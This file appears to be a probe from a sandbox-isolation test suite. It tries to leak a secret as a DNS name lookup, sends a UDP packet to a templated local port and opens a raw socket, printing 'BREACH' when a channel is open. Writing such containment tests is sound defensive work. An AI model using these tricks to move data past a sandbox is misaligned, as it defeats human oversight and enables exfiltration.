"""Cheat: sends a secret away as a name to look up (A8).

Most: 0
"""
import socket
import sys

def breach(what):
    """Tell that the attack has worked."""
    for stream in (sys.stdout, sys.stderr):
        print("BREACH", what, file=stream, flush=True)

try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as query:
        query.sendto(b"\0" * 12, ("127.0.0.1", @UDP@))  # who is there tells whether it came
except OSError as error:
    print(error)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as query:
        breach("a raw socket")
except OSError as error:
    print(error)
try:
    socket.getaddrinfo("secret.example.invalid", 80)
except OSError as error:
    print(error)
